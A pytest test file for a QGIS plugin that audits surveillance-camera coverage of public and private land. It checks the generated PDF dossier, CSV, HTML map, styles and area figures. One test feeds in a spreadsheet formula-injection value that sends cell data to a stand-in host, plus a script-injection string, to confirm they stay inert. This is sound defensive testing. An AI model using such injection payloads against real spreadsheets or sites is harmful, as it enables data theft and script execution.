"""The sample town's dossier, checked from the outside: the PDF's pages
(pdfinfo), their pixels (pdftoppm), their text (pdftotext) against the
layers; the styles each output carries; the project; the CSV and HTML
with hostile text. Expected figures come from the layers or from QGIS's
own geometry engine, never from the dossier code."""

import csv
import re
import shutil
import subprocess
from xml.etree import ElementTree

import pytest
from qgis.core import (
    NULL,
    QgsFeature,
    QgsGeometry,
    QgsProcessingContext,
    QgsProcessingFeedback,
    QgsProject,
    QgsRectangle,
    QgsVectorLayer,
)
from qgis.PyQt.QtGui import QColor, QImage

from camera_coverage.core.messages import number
from camera_coverage.layers.presentation import StyleOnLoad, present_outputs, style_path
from tests.conftest import SAMPLE_TOWN, SHARED_DATA
from tests.pdf_pages import camera_page_numbers
from tests.qgis.layers import X0, Y0, camera_layer, parcel_layer, rule_labels

POPPLER = shutil.which("pdfinfo") and shutil.which("pdftoppm") and shutil.which("pdftotext")
needs_poppler = pytest.mark.skipif(not POPPLER, reason="poppler-utils not installed")
OUTPUTS = ("cameras", "coverage", "pieces", "dori", "rejected")


@pytest.fixture(scope="module")
def town(plugin, tmp_path_factory):
    import processing

    folder = tmp_path_factory.mktemp("town")
    # The study area given: the parcels' convex hull, which the second
    # method below rebuilds by itself.
    study_area = folder / "study_area.geojson"
    processing.run(
        "native:convexhull",
        {
            "INPUT": processing.run(
                "native:dissolve",
                {"INPUT": str(SAMPLE_TOWN / "parcels.geojson"), "OUTPUT": "memory:"},
            )["OUTPUT"],
            "OUTPUT": str(study_area),
        },
    )
    parameters = {
        "CAMERAS": str(SAMPLE_TOWN / "cameras.geojson"),
        "PARCELS": str(SAMPLE_TOWN / "parcels.geojson"),
        "STUDY_AREA": str(study_area),
        "BUILDINGS": str(SAMPLE_TOWN / "buildings.geojson"),
        "PUBLIC_EXPRESSION": '"owner_group" IN (1, 2, 3, 4, 9)',
        "TOLERANCE_M2": 1,
        "POPULATION": 2500,
        "OUTPUT_FIGURES": str(folder / "figures.gpkg"),
        "OUTPUT_DOSSIER": str(folder / "dossier"),
    }
    for name in OUTPUTS:
        parameters[f"OUTPUT_{name.upper()}"] = str(folder / f"{name}.gpkg")
    results = processing.run("camera_coverage:coverageaudit", parameters)
    # Plain values: no layer kept open across tests.
    layer = QgsVectorLayer(results["OUTPUT_CAMERAS"], "cameras", "ogr")
    names = layer.fields().names()
    cameras = [dict(zip(names, f.attributes())) for f in layer.getFeatures()]
    del layer
    flagged = [c for c in cameras if c["masking_required"]]
    return results, folder / "dossier", cameras, flagged


def pdf_text(path, page=None):
    pages = ["-f", str(page), "-l", str(page)] if page else []
    return subprocess.run(
        ["pdftotext", "-layout", *pages, str(path), "-"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout


def test_the_dossier_folder_holds_the_five_files(town):
    _, dossier, _, _ = town
    for name in ("dossier.pdf", "report.html", "map.html", "project.qgz", "cameras.csv"):
        assert (dossier / name).stat().st_size > 1000, name


@needs_poppler
def test_pdf_has_cover_overview_one_page_per_flagged_camera_and_assumptions(town):
    _, dossier, _, flagged = town
    info = subprocess.run(
        ["pdfinfo", str(dossier / "dossier.pdf")], capture_output=True, text=True, check=True
    ).stdout
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
    assert len(flagged) > 0
    # Each camera page is headed by its camera, in the layer's order; a
    # camera whose text is long goes on to pages of its own.
    cameras = camera_page_numbers(dossier / "dossier.pdf", "Camera")
    assert list(cameras) == [feature["camera_id"] for feature in flagged]
    numbers = [n for pages_of in cameras.values() for n in pages_of]
    assert numbers == list(range(3, 3 + len(numbers)))
    assert pages == 1 + 1 + len(numbers) + 1


def colour_counts(png):
    """Pixels that are white, clearly red (private land, flagged cameras)
    and clearly blue (public domain, views): hue tests, since the fills
    are translucent and blend with what lies under them."""
    image = QImage(str(png))
    white = red = blue = 0
    for y in range(0, image.height(), 2):
        for x in range(0, image.width(), 2):
            c = QColor(image.pixel(x, y))
            r, g, b = c.red(), c.green(), c.blue()
            if r > 245 and g > 245 and b > 245:
                white += 1
            elif r > g + 70 and r > b + 70:
                red += 1
            elif b > r + 50 and b > g + 10:
                blue += 1
    total = ((image.width() + 1) // 2) * ((image.height() + 1) // 2)
    return white / total, red / total, blue / total


@needs_poppler
def test_pages_are_not_blank_and_maps_show_the_coverage_colours(town, tmp_path):
    _, dossier, _, flagged = town
    subprocess.run(
        ["pdftoppm", "-r", "30", "-png", str(dossier / "dossier.pdf"), str(tmp_path / "p")],
        check=True,
    )
    pages = sorted(tmp_path.glob("p-*.png"))
    assert len(pages) >= 3 + len(flagged)
    for page in pages:
        white, _, _ = colour_counts(page)
        assert white < 0.97, page.name
    # Overview and the first flagged camera's page: public (blue) and private (red).
    for page in pages[1:3]:
        _, red, blue = colour_counts(page)
        assert red > 0.002 and blue > 0.01, (page.name, red, blue)


@needs_poppler
def test_numbers_printed_equal_those_in_the_layers(town):
    results, dossier, cameras, flagged = town
    cover = pdf_text(dossier / "dossier.pdf", 1)
    # A camera whose masking is unknown (NULL: its view lies wholly beyond
    # the study area, as the sample's CAM-32's does) is not audited.
    audited = [
        c for c in cameras if c["masking_required"] is not None and c["masking_required"] != NULL
    ]
    assert len(audited) < len(cameras)
    assert re.search(rf"Cameras audited: {len(audited)}\b", cover)
    assert re.search(rf"Cameras whose view must be masked: {len(flagged)}\b", cover)
    figures = QgsVectorLayer(results["OUTPUT_FIGURES"], "figures", "ogr")
    by_code = {f["code"]: f for f in figures.getFeatures()}
    # Density and cost count the cameras standing in the study area (the
    # parcels' convex hull, given), here by QGIS's own geometry engine.
    parcels = QgsVectorLayer(str(SAMPLE_TOWN / "parcels.geojson"), "parcels", "ogr")
    hull = QgsGeometry.unaryUnion([f.geometry() for f in parcels.getFeatures()]).convexHull()
    points = QgsVectorLayer(str(SAMPLE_TOWN / "cameras.geojson"), "cameras", "ogr")
    standing = sum(1 for f in points.getFeatures() if hull.contains(f.geometry()))
    del parcels, points
    assert 0 < standing < len(cameras)  # one sample-town camera stands outside
    assert by_code["cameras_in_study_area"]["value"] == standing
    # Cameras per 1,000 inhabitants, from the population given.
    per_1000 = standing / 2500 * 1000
    assert by_code["cameras_per_1000"]["value"] == pytest.approx(per_1000)
    # Whoever gave it (the volunteer, or communedossier from the geo API).
    assert by_code["cameras_per_1000"]["note"] == "Population given to the audit (POPULATION): 2500"
    assert re.search(rf"Cameras per 1,000 inhabitants: {per_1000:.1f}\s", cover)
    # Cost: every camera standing there at the default 37,500 € and 7,500 € a year.
    assert f"{37_500 * standing:,} €" in cover and f"{7_500 * standing:,} €" in cover
    headed = camera_page_numbers(dossier / "dossier.pdf", "Camera")
    for feature in flagged:
        text = pdf_text(dossier / "dossier.pdf", headed[feature["camera_id"]][0])
        for field in ("covered_m2", "public_m2", "private_m2"):
            assert f"{number(feature[field], 'en', 1)} m²" in text, (feature["camera_id"], field)


def test_public_domain_share_agrees_with_qgis_geometry_engine(town):
    """Second method: union of the coverage, the parcels' hull minus the
    private parcels, intersected with QgsGeometry (GEOS through QGIS)."""
    results, _, _, _ = town
    coverage = QgsVectorLayer(results["OUTPUT_COVERAGE"], "coverage", "ogr")
    parcels = QgsVectorLayer(str(SAMPLE_TOWN / "parcels.geojson"), "parcels", "ogr")
    public_groups = {1, 2, 3, 4, 9}
    hull = QgsGeometry.unaryUnion([f.geometry() for f in parcels.getFeatures()]).convexHull()
    private = QgsGeometry.unaryUnion(
        [f.geometry() for f in parcels.getFeatures() if f["owner_group"] not in public_groups]
    )
    public = hull.difference(private)
    seen = QgsGeometry.unaryUnion([f.geometry() for f in coverage.getFeatures()])
    expected = 100 * seen.intersection(public).area() / public.area()
    figures = QgsVectorLayer(results["OUTPUT_FIGURES"], "figures", "ogr")
    share = next(f["value"] for f in figures.getFeatures() if f["code"] == "public_seen_pct")
    assert share == pytest.approx(expected, rel=1e-3)


def test_each_output_layer_opens_with_the_shipped_renderer(town):
    results, dossier, _, _ = town
    for name in OUTPUTS:
        layer = QgsVectorLayer(results[f"OUTPUT_{name.upper()}"], name, "ogr")
        assert layer.isValid(), name
        shipped = ElementTree.parse(style_path(name)).getroot()
        assert layer.renderer().type() == "RuleRenderer", name
        labels = [r.label() for r in layer.renderer().rootRule().children()]
        assert labels == [r.get("label") for r in shipped.find("renderer-v2/rules")], name
        # Areas with one decimal in the attribute table and forms.
        area = "area_m2" if name in ("pieces", "dori") else "covered_m2"
        setup = layer.editorWidgetSetup(layer.fields().indexOf(area))
        if name != "rejected":
            assert (setup.type(), setup.config().get("Precision")) == ("Range", 1), name
    project = QgsProject()
    assert project.read(str(dossier / "project.qgz"))
    layers = project.mapLayers().values()
    assert layers and all(layer.isValid() for layer in layers)
    assert all(layer.renderer().type() == "RuleRenderer" for layer in layers)
    layout, atlas = project.layoutManager().layouts()
    assert layout.pageCollection().pageCount() == int(
        re.search(
            r"Pages:\s+(\d+)",
            subprocess.run(
                ["pdfinfo", str(dossier / "dossier.pdf")], capture_output=True, text=True
            ).stdout,
        ).group(1)
    )
    # The atlas the volunteer can edit runs over the same flagged cameras.
    assert atlas.atlas().enabled()
    assert atlas.atlas().updateFeatures() == len(town[3])


def test_layers_loaded_by_qgis_get_their_style_and_an_empty_rejected_is_not_loaded():
    context = QgsProcessingContext()
    feedback = QgsProcessingFeedback()
    cameras = camera_layer([(X0, Y0, "A", 0.0, 60.0, 20.0)])
    rejected = camera_layer([])
    project = QgsProject()
    for layer in (cameras, rejected):
        context.temporaryLayerStore().addMapLayer(layer)
        context.addLayerToLoadOnCompletion(
            layer.id(), QgsProcessingContext.LayerDetails(layer.name(), project, "out")
        )
    present_outputs(
        context,
        [(cameras.id(), "cameras"), (rejected.id(), "rejected")],
        "fr",
        empty=(rejected.id(),),
    )
    assert rejected.id() not in context.layersToLoadOnCompletion()
    details = context.layerToLoadOnCompletionDetails(cameras.id())
    assert isinstance(details.postProcessor(), StyleOnLoad)
    project.addMapLayer(cameras)
    details.postProcessor().postProcessLayer(cameras, context, feedback)
    labels = [r.label() for r in cameras.renderer().rootRule().children()]
    assert labels == [
        "Masquage requis",
        "Non auditée (statut du terrain inconnu)",
        "Pas de masquage requis",
    ]


HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"clic")'
SCRIPT = "<script>alert(1)</script>"
NON_ASCII = "Caméra « Hôtel-de-Ville » Ω"


def test_hostile_text_stays_inert_and_intact(plugin, tmp_path):
    import processing

    cameras = camera_layer(
        [
            (X0 + 30, Y0 + 15, HOSTILE, 0.0, 90.0, 30.0),
            (X0 + 60, Y0 + 15, SCRIPT, 0.0, 90.0, 30.0),
            (X0 + 90, Y0 + 15, NON_ASCII, 0.0, 90.0, 30.0),
        ]
    )
    # Private parcels north of the cameras: all three are flagged.
    parcels = parcel_layer(
        [
            (
                "P1",
                None,
                f"POLYGON(({X0} {Y0 + 30},{X0 + 120} {Y0 + 30},{X0 + 120} {Y0 + 60},"
                f"{X0} {Y0 + 60},{X0} {Y0 + 30}))",
            ),
        ]
    )
    processing.run(
        "camera_coverage:coverageaudit",
        {
            "CAMERAS": cameras,
            "PARCELS": parcels,
            "OUTPUT_CAMERAS": "memory:",
            "OUTPUT_COVERAGE": "memory:",
            "OUTPUT_PIECES": "memory:",
            "OUTPUT_DOSSIER": str(tmp_path),
        },
    )
    raw = (tmp_path / "cameras.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(tmp_path / "cameras.csv", encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream, delimiter=";"))
    ids = [row["camera_id"] for row in rows]
    assert ids == ["'" + HOSTILE, SCRIPT, NON_ASCII]
    for name in ("report.html", "map.html"):
        html = (tmp_path / name).read_text(encoding="utf-8")
        assert SCRIPT not in html, name
        assert "alert(1)" in html, name  # kept, as escaped text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (tmp_path / "report.html").read_text(
        encoding="utf-8"
    )
    if POPPLER:
        text = pdf_text(tmp_path / "dossier.pdf")
        for camera_id in (HOSTILE, SCRIPT, NON_ASCII):
            assert camera_id in text


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
OFFLINE = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--hide-scrollbars",
    # No network: every request goes to a closed local port.
    "--proxy-server=http://127.0.0.1:9",
    "--proxy-bypass-list=<-loopback>",
    "--virtual-time-budget=3000",
    "--window-size=1000,700",
]
CLICK = """<script>
window.addEventListener('load', function () {
  var dot = document.querySelector('#marks circle'), box = dot.getBoundingClientRect();
  var x = box.left + box.width / 2, y = box.top + box.height / 2;
  var hit = document.elementFromPoint(x, y);
  hit.dispatchEvent(new MouseEvent('click', {bubbles: true, clientX: x, clientY: y}));
  var popup = document.getElementById('popup');
  document.body.setAttribute('data-popup', popup.hidden ? 'hidden' : 'shown');
  document.body.setAttribute('data-popup-title', popup.querySelector('h3').textContent);
});
</script></body>"""


def chromium(*args):
    return subprocess.run([CHROMIUM, *OFFLINE, *args], capture_output=True, text=True, timeout=120)


@pytest.mark.skipif(not CHROMIUM, reason="chromium not installed")
def test_web_map_renders_offline_with_markers_coverage_and_a_popup(town, tmp_path):
    _, dossier, cameras, flagged = town
    page = dossier / "map.html"
    html = page.read_text(encoding="utf-8")
    # Nothing is fetched: no external script, style or image in the page.
    assert not re.search(r"<(script|link|img)[^>]+(src|href)=", html)
    shot = tmp_path / "map.png"
    run = chromium(f"--screenshot={shot}", page.as_uri())
    assert shot.exists(), run.stderr
    image = QImage(str(shot))
    flagged_dots = clear_dots = private = public = 0
    for y in range(0, image.height(), 2):
        for x in range(0, image.width(), 2):
            c = QColor(image.pixel(x, y))
            rgb = (c.red(), c.green(), c.blue())
            if rgb == (0xC5, 0x1B, 0x1B):
                flagged_dots += 1
            elif rgb == (0x1F, 0x5F, 0xA8):
                clear_dots += 1
            elif c.red() > c.green() + 70 and c.red() > c.blue() + 70:
                private += 1
            elif c.blue() > c.red() + 50:
                public += 1
    assert flagged_dots > 10 * len(flagged) // 4 and clear_dots > 10
    assert private > 500 and public > 500
    # A camera not audited (no masking verdict) is grey and says so, never
    # "No masking required" (found on the map after the dossier's pages).
    unknown = [c for c in cameras if c["masking_required"] == NULL]
    assert unknown
    drawn = re.findall(r'"colour": "(#[0-9a-f]+)", "status": "([^"]+)"', html)
    assert drawn.count(("#9a9a9a", "Not audited (land status unknown)")) == len(unknown)
    # A click where the first camera is drawn opens its popup.
    clicking = tmp_path / "click.html"
    clicking.write_text(html.replace("</body>", CLICK), encoding="utf-8")
    dom = chromium("--dump-dom", clicking.as_uri()).stdout
    first = cameras[0]["camera_id"]
    assert 'data-popup="shown"' in dom
    assert f'data-popup-title="{first}"' in dom


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_styles_for_the_fields_other_algorithms_write(lang):
    """Masks by kind and plan verdicts, keyed on DESIGN.md's field names."""
    masks = QgsVectorLayer(
        "Polygon?crs=EPSG:2154&field=camera_id:string&field=kind:string&field=area_m2:double",
        "masks",
        "memory",
    )
    masks.loadNamedStyle(str(style_path("masks", lang)))
    verdicts = QgsVectorLayer("Point?crs=EPSG:2154&field=verdict:string", "v", "memory")
    verdicts.loadNamedStyle(str(style_path("verdicts", lang)))
    english = lang == "en"
    assert rule_labels(masks, {"kind": "entrance"}) == [
        "Entrance to mask" if english else "Entrée à masquer"
    ]
    assert rule_labels(masks, {"kind": "private"}) == [
        "Zone to mask" if english else "Zone à masquer"
    ]
    for verdict, en, fr in (
        ("compliant", "Compliant", "Conforme"),
        ("masking_required", "Masking required", "Masquage requis"),
        ("not_compliant", "Not compliant", "Non conforme"),
    ):
        assert rule_labels(verdicts, {"verdict": verdict}) == [en if english else fr]
    # A layer without the field falls to the ELSE rule instead of vanishing.
    bare = QgsVectorLayer("Point?crs=EPSG:2154&field=x:string", "bare", "memory")
    bare.loadNamedStyle(str(style_path("cameras", lang)))
    assert rule_labels(bare, {}) == ["No masking required" if english else "Pas de masquage requis"]


def test_outputs_loaded_as_the_dialog_loads_them_are_styled_and_ordered(plugin):
    """processing.runAndLoadResults goes through the same loading code as
    the Processing dialog (handleAlgorithmResults)."""
    import processing

    project = QgsProject.instance()
    project.clear()
    parameters = {
        "CAMERAS": str(SAMPLE_TOWN / "cameras.geojson"),
        "PARCELS": str(SAMPLE_TOWN / "parcels.geojson"),
        "BUILDINGS": str(SAMPLE_TOWN / "buildings.geojson"),
        **{
            f"OUTPUT_{name.upper()}": "TEMPORARY_OUTPUT"
            for name in ("cameras", "coverage", "pieces", "dori", "rejected")
        },
    }
    try:
        processing.runAndLoadResults("camera_coverage:coverageaudit", parameters)
        nodes = project.layerTreeRoot().findLayers()
        renderers = {node.layer().renderer().type() for node in nodes}
        fields = [node.layer().fields().names() for node in nodes]
        assert renderers == {"RuleRenderer"}
        # Cameras on top of their views; no rejected camera, no rejected layer.
        assert len(nodes) == 4
        assert "masking_required" in fields[0] and "level" in fields[2]
        assert "class" in fields[1] and "covered_m2" in fields[3]
    finally:
        project.clear()


def test_cameras_flagged_per_rule_read_from_flag_rules():
    from camera_coverage.dossier.audit import flag_rules_of

    context = QgsProcessingContext()
    plain = camera_layer([(X0, Y0, "A", 0.0, 60.0, 20.0)])
    context.temporaryLayerStore().addMapLayer(plain)
    assert flag_rules_of(plain.id(), context) is None
    ruled = camera_layer(
        [(X0, Y0, "A", "L251-3-PRIVATE, L251-3-ENTRANCE"), (X0, Y0, "B", None)],
        fields="camera_id:string,flag_rules:string",
    )
    context.temporaryLayerStore().addMapLayer(ruled)
    assert flag_rules_of(ruled.id(), context) == ["L251-3-PRIVATE, L251-3-ENTRANCE", None]


def test_odbl_attribution_whenever_an_input_comes_from_openstreetmap():
    from camera_coverage.dossier.audit import osm_used
    from camera_coverage.dossier.build import licences

    survey = camera_layer([(X0, Y0, "A", 0.0, 60.0, 20.0)])
    imported = camera_layer(
        [(X0, Y0, "A", "node/123456")], fields="camera_id:string,source_ref:string"
    )
    assert not osm_used([survey, None])
    assert osm_used([survey, imported])
    monaco = SHARED_DATA / "monaco" / "monaco-2025-02-07.osm.pbf"
    if monaco.exists():
        buildings = QgsVectorLayer(f"{monaco}|layername=multipolygons", "buildings", "ogr")
        assert osm_used([survey, buildings])
    assert not any("ODbL" in line for line in licences(False))
    assert any("ODbL" in line for line in licences(True))
    assert all("Licence Ouverte" in licences(flag)[0] for flag in (False, True))


@needs_poppler
def test_a_base_map_is_drawn_under_the_overview(plugin, tmp_path):
    """A local raster (all green, over the sample town) as BASEMAP."""
    import processing
    from osgeo import gdal, osr

    raster = tmp_path / "base.tif"
    town = QgsVectorLayer(str(SAMPLE_TOWN / "parcels.geojson"), "parcels", "ogr").extent()
    dataset = gdal.GetDriverByName("GTiff").Create(str(raster), 60, 50, 3, gdal.GDT_Byte)
    dataset.SetGeoTransform(
        (town.xMinimum() - 50, town.width() / 50, 0, town.yMaximum() + 50, 0, -town.height() / 40)
    )
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(2154)
    dataset.SetProjection(srs.ExportToWkt())
    for band, value in zip((1, 2, 3), (40, 200, 40)):
        dataset.GetRasterBand(band).Fill(value)
    dataset = None
    processing.run(
        "camera_coverage:coverageaudit",
        {
            "CAMERAS": str(SAMPLE_TOWN / "cameras.geojson"),
            "PARCELS": str(SAMPLE_TOWN / "parcels.geojson"),
            "BASEMAP": str(raster),
            "OUTPUT_CAMERAS": "memory:",
            "OUTPUT_COVERAGE": "memory:",
            "OUTPUT_PIECES": "memory:",
            "OUTPUT_DOSSIER": str(tmp_path / "dossier"),
        },
    )
    subprocess.run(
        [
            "pdftoppm",
            "-r",
            "30",
            "-png",
            "-f",
            "2",
            "-l",
            "2",
            "-singlefile",
            str(tmp_path / "dossier" / "dossier.pdf"),
            str(tmp_path / "overview"),
        ],
        check=True,
    )
    image = QImage(str(tmp_path / "overview.png"))
    green = sum(
        1
        for y in range(0, image.height(), 2)
        for x in range(0, image.width(), 2)
        if QColor(image.pixel(x, y)).green() > QColor(image.pixel(x, y)).red() + 80
    )
    assert green > 500


@needs_poppler
def test_build_dossier_for_plan_verdicts(plugin, tmp_path):
    """What plancheck will do: cameras with verdicts, one page per camera
    that is not compliant, its reason and rules printed."""
    from camera_coverage.dossier import build_dossier
    from camera_coverage.dossier.figures import Figure

    cameras = camera_layer(
        [
            (X0, Y0, "OK", "compliant", "", ""),
            (X0 + 50, Y0, "P1", "not_compliant", "covers the playground", "CNIL-PLAYGROUND"),
            (X0 + 100, Y0, "P2", "masking_required", "sees the street", None),
        ],
        fields="camera_id:string,verdict:string,verdict_reason:string,verdict_rules:string",
    )
    seen = QgsVectorLayer("Polygon?crs=EPSG:2154&field=camera_id:string", "seen", "memory")
    features = []
    for index, camera_id in enumerate(("OK", "P1", "P2")):
        feature = QgsFeature(seen.fields())
        x = X0 + 50 * index
        feature.setGeometry(QgsGeometry.fromRect(QgsRectangle(x, Y0, x + 20, Y0 + 20)))
        feature.setAttributes([camera_id])
        features.append(feature)
    seen.dataProvider().addFeatures(features)
    written = build_dossier(
        tmp_path,
        {"verdicts": cameras, "coverage": seen},
        [Figure("cameras_audited", "Cameras checked", 3, "")],
        flagged_expression="\"verdict\" <> 'compliant'",
        reason_field="verdict_reason",
        rules_field="verdict_rules",
    )
    assert sorted(written) == sorted(
        ["dossier.pdf", "report.html", "map.html", "project.qgz", "cameras.csv"]
    )
    text = pdf_text(tmp_path / "dossier.pdf")
    assert text.count("\f") == 1 + 1 + 2 + 1
    assert "Camera P1" in text and "Camera P2" in text and "Camera OK" not in text
    assert "covers the playground" in text and "CNIL-PLAYGROUND" in text
    assert "L251-3-PRIVATE" not in text  # no private-land rule invented for a plan


def wedge_angle(x0, y0, bearing):
    """Render one camera with the shipped style, north up, and return the
    grid bearing (degrees clockwise from the map's up) of its wedge's
    pixels as seen from the dot."""
    import math

    from qgis.core import (
        QgsExpressionContext,
        QgsExpressionContextUtils,
        QgsMapRendererParallelJob,
        QgsMapSettings,
    )
    from qgis.PyQt.QtCore import QSize

    layer = camera_layer(
        [(x0, y0, "A", bearing, 40.0, 20.0)],
        fields="camera_id:string,direction:double,fov:double,range_m:double",
    )
    layer.loadNamedStyle(str(style_path("cameras")))
    settings = QgsMapSettings()
    settings.setLayers([layer])
    settings.setDestinationCrs(layer.crs())
    settings.setExtent(QgsRectangle(x0 - 50, y0 - 50, x0 + 50, y0 + 50))
    settings.setOutputSize(QSize(400, 400))
    settings.setOutputDpi(300)  # a wedge of some 50 pixels: its angle is measurable
    settings.setBackgroundColor(QColor("white"))
    # The map's variables (@map_scale...), as QGIS's canvas and layouts set them.
    context = QgsExpressionContext()
    context.appendScope(QgsExpressionContextUtils.mapSettingsScope(settings))
    settings.setExpressionContext(context)
    job = QgsMapRendererParallelJob(settings)
    job.start()
    job.waitForFinished()
    image = job.renderedImage()
    dx = dy = count = 0
    for y in range(image.height()):
        for x in range(image.width()):
            c = QColor(image.pixel(x, y))
            rgb = (c.red(), c.green(), c.blue())
            # The translucent wedge: coloured, lighter than the solid dot.
            if max(rgb) - min(rgb) > 30 and sum(rgb) > 400:
                dx, dy, count = dx + x - 200, dy + y - 200, count + 1
    assert count > 200
    return math.degrees(math.atan2(dx / count, -dy / count)) % 360


@pytest.mark.parametrize("bearing", [0.0, 90.0, 200.0, 315.0])
def test_camera_symbol_points_where_the_camera_looks(bearing):
    """Near 3°E, where Lambert-93's grid north is true north: the wedge lies
    on the camera's side of its dot (no "north drawn facing south")."""
    drawn = wedge_angle(X0, Y0, bearing)
    assert abs((drawn - bearing + 180) % 360 - 180) < 3


def test_camera_symbol_turns_to_true_north_in_brittany():
    """Brest in Lambert-93: true north lies 5.4° clockwise from grid north
    (DESIGN.md), so a camera facing true north is drawn 5.4° right of up."""
    from pyproj import Transformer

    x, y = Transformer.from_crs(4326, 2154, always_xy=True).transform(-4.486, 48.390)
    drawn = wedge_angle(x, y, 0.0)
    assert abs(drawn - 5.4) < 1.5
